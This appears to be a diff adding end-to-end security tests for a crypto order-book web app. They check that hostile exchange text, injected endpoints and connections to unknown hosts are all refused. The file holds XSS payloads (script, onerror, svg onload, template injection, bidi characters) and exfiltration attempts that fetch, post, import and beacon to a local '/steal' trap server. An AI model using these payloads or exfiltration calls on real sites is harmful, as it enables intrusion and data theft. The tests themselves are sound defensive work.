@@ -1,0 +1,233 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { createServer as createHttpServer } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { claims, claimsBetween, expectSettled, recordClaims } from './support/claims';
+import { EngineWorker } from './support/devtools';
+import { expect, test } from './support/fixtures';
+import { knockRaw } from './support/raw-engine';
+import { expectLive, expectTrueBook, figure, openDock, picture, stripWords, venueCard } from './support/screen';
+import { Site } from './support/site';
+
+test.beforeEach(({ context }) => recordClaims(context));
+
+/** A server that nobody should ever reach, and how often somebody did. */
+async function trap(): Promise<{ readonly port: number; readonly visits: () => number; close(): void }> {
+  let visits = 0;
+  const server = createHttpServer((_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}'));
+  server.on('connection', () => visits++);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { port: (server.address() as AddressInfo).port, visits: () => visits, close: () => server.close() };
+}
+
+const EVIL = [
+  '<img src=x onerror="window.hacked=1">',
+  '"><script>window.hacked=1</script>',
+  "';window.hacked=1;//",
+  '<svg/onload=window.hacked=1>',
+  'javascript:window.hacked=1',
+  '\u202Eevil\u2066\u200B',
+  '{{constructor.constructor("window.hacked=1")()}}',
+].join(' ');
+
+test('M1: frames that are not what the protocol says, one of over 1 MB among them, are survived, counted and never shown', async ({
+  openTab,
+  exchange,
+  complaints,
+}, info) => {
+  const page = await openTab();
+  await expectSettled(page);
+  await openDock(page, 'Connection');
+  const at = Date.now();
+  const { connections } = exchange.running.stats();
+  exchange.running.control.malformed('all');
+  // What is too long is not read at all: that connection is given up.
+  await expect.poll(() => exchange.running.stats().connections).toBeGreaterThan(connections);
+  await expectLive(page);
+  expect((await claimsBetween(page, at)).some((claim) => claim.state !== 'live')).toBe(true);
+  await expect(figure(page, 'Faults')).toContainText('frame-malformed');
+  await expectTrueBook(page, exchange);
+  expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBe(undefined);
+  expect(complaints).toEqual([]);
+  await picture(page, info, 'M1');
+});
+
+test('M2: hostile texts of the exchange are shown as text, and the security policy has nothing to report', async ({
+  openTab,
+  exchange,
+  complaints,
+}, info) => {
+  exchange.running.control.hostile(EVIL);
+  const page = await openTab('/?pair=bitfinex:NOSUCH/USD');
+  const book = page.getByRole('region', { name: 'Order book' });
+  await expect(book).toContainText('<img src=x onerror=', { timeout: 15_000 });
+  exchange.running.control.error(10000, EVIL);
+  exchange.running.control.info(20051, EVIL);
+  await expect.poll(() => exchange.running.stats().connections).toBe(2);
+  await openDock(page, 'Connection');
+  await expect(venueCard(page)).toBeVisible();
+  expect(await page.evaluate(() => [Reflect.get(window, 'hacked'), document.querySelectorAll('img, script:not([src]), svg[onload]').length])).toEqual(
+    [undefined, 0],
+  );
+  // Signs that turn the reading direction or hide are gone.
+  expect(await page.evaluate(() => /[\u202A-\u202E\u2066-\u2069\u200B]/.test(document.body.textContent ?? ''))).toBe(false);
+  await picture(page, info, 'M2');
+  await page.goto(`${new URL(page.url()).origin}/?pair=${encodeURIComponent(EVIL)}#${encodeURIComponent(EVIL)}`);
+  await expectLive(page);
+  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBe(undefined);
+  expect(complaints).toEqual([]);
+});
+
+test('M3: a page that speaks to the engine by itself can name its calls and nothing else, and no other tab is hurt', async ({
+  openTab,
+  exchange,
+}) => {
+  const page = await openTab();
+  const hostile = await openTab();
+  await expectSettled(page);
+  await expectLive(hostile);
+  const at = Date.now();
+  const { answers, flood } = await knockRaw(hostile);
+  for (const [what, answer] of Object.entries(answers)) expect(answer, what).toMatch(/call-refused/);
+  expect(flood.refused + flood.served).toBe(10_000);
+  expect(flood.refused).toBeGreaterThan(8_000);
+  expect(flood.served).toBeGreaterThan(0);
+  expect((await claimsBetween(page, at)).every((claim) => claim.state === 'live')).toBe(true);
+  await expectTrueBook(page, exchange);
+  await openDock(page, 'Connection');
+  await expect(page.getByRole('region', { name: 'Figures' })).toContainText('Messages');
+  expect(exchange.running.stats().connections).toBe(1);
+});
+
+test('M8: neither page nor engine can reach a host that the build does not know', async ({ openTab, context, exchange: _running }) => {
+  const foreign = await trap();
+  const page = await openTab();
+  await expectLive(page);
+  const attempts = `(async () => {
+    const tried = [];
+    await fetch('http://127.0.0.1:${foreign.port}/steal?key=1').then(() => tried.push('fetched'), () => tried.push('refused'));
+    await fetch('http://127.0.0.1:${foreign.port}/steal', { method: 'POST', mode: 'no-cors', body: 'key' }).then(() => tried.push('posted'), () => tried.push('refused'));
+    await new Promise((done) => {
+      try {
+        const socket = new WebSocket('ws://127.0.0.1:${foreign.port}/');
+        socket.onopen = () => { tried.push('connected'); done(); };
+        socket.onerror = () => { tried.push('refused'); done(); };
+      } catch { tried.push('refused'); done(); }
+    });
+    await import('http://127.0.0.1:${foreign.port}/x.js').then(() => tried.push('imported'), () => tried.push('refused'));
+    return tried.join(' ');
+  })()`;
+  const violations = page.evaluate(
+    () =>
+      new Promise<string>((resolve) =>
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }),
+      ),
+  );
+  expect(await page.evaluate(attempts)).toBe('refused refused refused refused');
+  expect(await violations).toBe('connect-src');
+  const beacon = await page.evaluate((port) => {
+    const image = new Image();
+    image.src = `http://127.0.0.1:${port}/pixel`;
+    return new Promise((resolve) => {
+      image.onload = () => resolve('loaded');
+      image.onerror = () => resolve('refused');
+    });
+  }, foreign.port);
+  expect(beacon).toBe('refused');
+  const engine = await EngineWorker.attach(context);
+  const { result } = (await engine.send('Runtime.evaluate', { expression: attempts, awaitPromise: true })) as { result: { value: string } };
+  expect(result.value).toBe('refused refused refused refused');
+  expect(foreign.visits()).toBe(0);
+  foreign.close();
+  await expectLive(page);
+});
+
+test('M9: no address, storage or message changes where the app connects', async ({ openTab, context, exchange }, info) => {
+  const foreign = await trap();
+  const ws = `ws://127.0.0.1:${foreign.port}/ws/2`;
+  await context.addInitScript((url) => {
+    for (const key of ['mock', 'ws', 'endpoint', 'hosts', 'TAPEDECK_BITFINEX_WS', 'tapedeck/endpoints']) localStorage.setItem(key, url);
+    localStorage.setItem('tapedeck/preferences', JSON.stringify({ theme: 'dark', ws: url, hosts: { publicWs: url }, pair: null }));
+  }, ws);
+  const page = await openTab(`/?mock=${encodeURIComponent(ws)}&ws=${encodeURIComponent(ws)}&TAPEDECK_BITFINEX_WS=${encodeURIComponent(ws)}#ws=${ws}`);
+  await expectLive(page);
+  await page.evaluate((url) => {
+    const message = { kind: 'configure', type: 'SET', path: ['hosts'], ws: url, endpoint: url, publicWs: url };
+    window.postMessage(message, '*');
+    const channel = new BroadcastChannel('tapedeck-engines');
+    channel.postMessage(message);
+    channel.close();
+    navigator.serviceWorker.controller?.postMessage(message);
+  }, ws);
+  exchange.running.control.drop();
+  await expect.poll(() => exchange.running.stats().connections).toBe(2);
+  await expectLive(page);
+  await openDock(page, 'About');
+  const about = page.getByRole('region', { name: 'About' });
+  await expect(about).toContainText(exchange.running.wsUrl);
+  await expect(about).not.toContainText(String(foreign.port));
+  expect(foreign.visits()).toBe(0);
+  foreign.close();
+  await picture(page, info, 'M9');
+});
+
+test('M10: an exchange whose certificate nobody vouches for gets no request, the user reads that it cannot be reached, and ws:// is not tried', async ({
+  context,
+}, info) => {
+  test.skip(!hasOpenssl(), 'openssl is needed to make a certificate');
+  const folder = await mkdtemp(join(tmpdir(), 'tapedeck-tls-'));
+  const [key, cert] = [join(folder, 'key.pem'), join(folder, 'cert.pem')];
+  const subject = ['-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'];
+  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-keyout', key, '-out', cert, ...subject], {
+    stdio: 'ignore',
+  });
+  let requests = 0;
+  let refusals = 0;
+  const server = createHttpsServer({ key: await readFile(key), cert: await readFile(cert) }, (_, response) => response.end());
+  server.on('request', () => requests++);
+  server.on('upgrade', (_, socket) => {
+    requests++;
+    socket.destroy();
+  });
+  server.on('tlsClientError', () => refusals++);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  const dist = join(folder, 'dist');
+  const addresses = {
+    TAPEDECK_BITFINEX_WS: `wss://127.0.0.1:${port}/ws/2`,
+    TAPEDECK_BITFINEX_AUTH_WS: `wss://127.0.0.1:${port}/ws/2`,
+    TAPEDECK_BITFINEX_REST: `https://127.0.0.1:${port}`,
+  };
+  execFileSync('npm', ['run', '--silent', 'build'], {
+    env: { ...process.env, ...addresses, TAPEDECK_OUT: dist },
+    stdio: 'ignore',
+    shell: process.platform === 'win32',
+  });
+  const site = await Site.open(dist);
+  const page = await context.newPage();
+  await page.goto(site.url);
+  await openDock(page, 'Connection');
+  await expect(venueCard(page)).toContainText('the exchange could not be reached');
+  await expect(stripWords(page)).toContainText(/next try in|Simulated/);
+  expect(refusals).toBeGreaterThan(0);
+  expect(requests).toBe(0);
+  expect((await claims(page)).every((claim) => claim.state !== 'live' || claim.source === 'simulated')).toBe(true);
+  await picture(page, info, 'M10');
+  await page.close();
+  await site.stop();
+  server.close();
+  server.closeAllConnections();
+  await rm(folder, { recursive: true, force: true });
+});
+
+function hasOpenssl(): boolean {
+  try {
+    execFileSync('openssl', ['version'], { stdio: 'ignore' });
+    return true;
+  } catch {
+    return false;
+  }
+}
